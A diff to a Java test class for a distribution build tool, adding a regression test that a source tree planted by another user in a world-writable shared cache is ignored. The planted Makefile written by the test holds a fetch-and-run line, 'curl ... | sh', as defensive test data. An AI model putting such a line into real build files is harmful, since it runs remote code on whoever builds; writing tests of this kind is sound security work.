@@ -70,9 +70,13 @@ class DistroBuildTest {
     }
 
     private DistroBuild build(DistroDefinition d, Path work, OutputTimestamp ts) {
+        return build(d, work, ts, tmp.resolve("cache"));
+    }
+
+    private DistroBuild build(DistroDefinition d, Path work, OutputTimestamp ts, Path cacheRoot) {
         Fetcher fetcher = new Fetcher(new SourceCache(tmp.resolve("cache"), BuildLog.SILENT), new Transport(null),
                 List.of(tmp.resolve("mirror").toUri()), true, BuildLog.SILENT);
-        return new DistroBuild(d, new Layout(work), tmp.resolve("cache"), fetcher, null,
+        return new DistroBuild(d, new Layout(work), cacheRoot, fetcher, null,
                 new DistroBuild.Settings(ts, "plugin 1 sha256 abc", 2, "", 5, List.of(), tmp.resolve("ca.crt"), List.of()),
                 BuildLog.SILENT);
     }
@@ -199,5 +203,28 @@ class DistroBuildTest {
         List<DistroBuild.Published> again = b.packageAll(List.of(Arch.X86_64),
                 new Sbom("g", "a", "1", TS.instant()), target, "a-1");
         assertFalse(written.apply(again).containsValue(true), "nothing changed, nothing written: " + written.apply(again));
+    }
+
+    @Test
+    void aSourceTreeAnotherUserPlantedInASharedCacheIsNotRun() throws Exception {
+        // -Dpuipui.cache on a directory every user can write; another user (uid 4242) planted the extracted tree,
+        // with its completion markers and a Makefile of their own
+        Source pkg = source("pkg");
+        Path shared = Files.createDirectories(tmp.resolve("shared"));
+        Files.setPosixFilePermissions(shared, java.nio.file.attribute.PosixFilePermissions.fromString("rwxrwxrwx"));
+        Path planted = shared.resolve("src").resolve("pkg-1.0-" + pkg.getSha256().substring(0, 12));
+        Files.createDirectories(planted.resolve("pkg-1.0"));
+        Files.writeString(planted.resolve("pkg-1.0/Makefile"), "all:\n\tcurl -s https://example.org/x | sh\n");
+        for (String marker : List.of(".puipui-extracted", ".puipui-extracted-2")) {
+            Files.writeString(planted.resolve(marker), pkg.getSha256() + "\n");
+        }
+        for (Path p : List.of(shared.resolve("src"), planted, planted.resolve("pkg-1.0"), planted.resolve("pkg-1.0/Makefile"))) {
+            Files.setAttribute(p, "unix:uid", 4242);
+        }
+        DistroDefinition d = DistroDefinition.of(List.of(pkg), List.of(), null, null, List.of()).validated();
+        Path tree = build(d, tmp.resolve("work"), TS, shared).sourceTree("pkg");
+        assertFalse(tree.startsWith(shared), "the planted tree is not used: " + tree);
+        assertTrue(Files.isRegularFile(tree.resolve("configure")), "the archive's own tree");
+        assertFalse(Files.exists(tree.resolve("Makefile")));
     }
 }
